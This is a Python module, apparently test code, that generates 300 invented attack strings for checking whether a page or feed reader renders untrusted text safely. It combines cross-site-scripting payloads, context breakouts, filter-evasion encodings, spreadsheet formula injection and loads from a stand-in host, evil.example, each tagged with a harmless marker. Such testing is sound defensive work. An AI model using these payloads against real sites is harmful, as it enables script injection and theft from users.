"""Invented attacks on a page: what somebody could write into a headline, a name or an address."""

from __future__ import annotations

import html
import re
from itertools import product
from pathlib import Path

#: What runs, loads or sends something if it is shown as HTML. Each says that it was here by `JS`.
ACTS = [
    "<script>JS</script>",
    "<img src=x onerror=JS>",
    "<svg onload=JS></svg>",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:JS'><text y=9>x</text></a></svg>",
    "<math href='javascript:JS'><mi>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS></style></mglyph></table></math>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<p style='background:url(https://evil.example/a.png)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<object data='data:text/html,<script>parent.JS</script>'></object>",
    "<embed src='https://evil.example/a.swf'>",
    "<form action='https://evil.example/'><button autofocus onfocus=JS>x</button></form>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<img src='https://evil.example/a.png'>",
    "<video poster='https://evil.example/a.png' src=x onerror=JS></video>",
    "<a href='javascript:JS'>x</a>",
    "<a href='data:text/html,<script>JS</script>'>x</a>",
    "<details open ontoggle=JS><summary>x</summary></details>",
    "<input autofocus onfocus=JS>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'>",
    "[x](javascript:JS) ![x](https://evil.example/a.png) <https://evil.example/>",
    r"\(\href{javascript:JS}{x}\) $\href{javascript:JS}{y}$ \[\style{color:red}{z}\]",
    r"\begin{equation}\unicode{x3c}img src=x onerror=JS\unicode{x3e}\end{equation}",
    '=HYPERLINK("https://evil.example/JS","x")',
    "＝cmd|'/c calc JS'!A0",
    "javascript:JS//https://evil.example/",
]
#: What ends the place in which an attack is written.
BREAKS = [
    "",
    "\"'>",
    "\" onmouseover=JS x='",
    "</td></table></div>",
    "--><!--> ",
    "]]><![CDATA[",
    "</title></style></textarea></script>",
    "${title}{{7*7}}`",
    "<!--",
    "<x title='",
]
#: How an attack hides from whoever looks for it.
HIDES = [
    str,
    str.upper,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;").replace("javascript", "java&Tab;script"),
    lambda text: text.replace(" ", "\t\n").replace("javascript", "jav\tascript"),
    lambda text: text.replace("<", "<\x00").replace("script", "scr\x00ipt"),
    lambda text: text.replace(" ", "\u2028"),
    lambda text: f"\u202e{text}\u2066",
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<<"),
]


def own_attacks() -> list[str]:
    """Return 300 attacks; each carries a name that is found on a page if the attack is shown."""
    attacks = []
    for number, (act, before) in enumerate(product(ACTS, BREAKS)):
        hide = HIDES[number % len(HIDES)]
        code = f"window.__taken={number}//taken{number}z"
        hidden = hide(before + act).replace("JS", code)
        attacks.append(hidden + f" taken{number}z")
    return attacks


def attacks_of_feeds(folder: Path) -> list[str]:
    """Return what feeds that were written to try readers of feeds carry, as HTML."""
    attacks = []
    for number, path in enumerate(sorted(folder.glob("*.xml"))):
        text = path.read_text(encoding="utf-8", errors="replace")
        text = re.sub(r"^.*?-->", "", text, count=1, flags=re.DOTALL)
        attacks.append(f"{html.unescape(text).strip()[:600]} fed{number}z")
    return attacks
